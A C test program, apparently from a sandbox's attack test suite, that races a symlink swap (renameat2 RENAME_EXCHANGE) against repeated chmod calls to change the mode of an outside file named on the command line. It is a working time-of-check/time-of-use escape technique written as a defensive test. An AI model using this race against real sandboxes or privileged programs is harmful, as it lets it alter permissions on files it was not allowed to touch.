// SPDX-License-Identifier: Apache-2.0
// Changes the mode of a file outside (argv[1]): names a file of its own, and exchanges it for a link while
// the call is looked at.
#include "tests/attack/attack.h"

#include <pthread.h>
#include <sys/stat.h>
#include <time.h>

static volatile int done;
static const char *target;

static void *
exchange(void *unused)
{
    (void)unused;
    while (!done)
        (void)!renameat2(AT_FDCWD, "mine", AT_FDCWD, "link", RENAME_EXCHANGE);
    return NULL;
}

int
main(int argc, char **argv)
{
    pthread_t thread;
    struct stat now;
    target = attack_word(argc, argv, 1);
    int fd = open("mine", O_WRONLY | O_CREAT, 0600);
    if (fd < 0 || symlink(target, "link") < 0)
        return attack_result(0);
    errno = pthread_create(&thread, NULL, exchange, NULL);
    if (errno)
        return attack_result(0);
    int succeeded = 0;
    time_t until = time(NULL) + 3;
    for (int i = 0; i < 4000 && !succeeded && time(NULL) < until; i++)
        succeeded = chmod("mine", 0757) == 0 && stat(target, &now) == 0 && (now.st_mode & 0777) == 0757;
    done = 1;
    pthread_join(thread, NULL);
    errno = EPERM;
    return attack_result(succeeded);
}
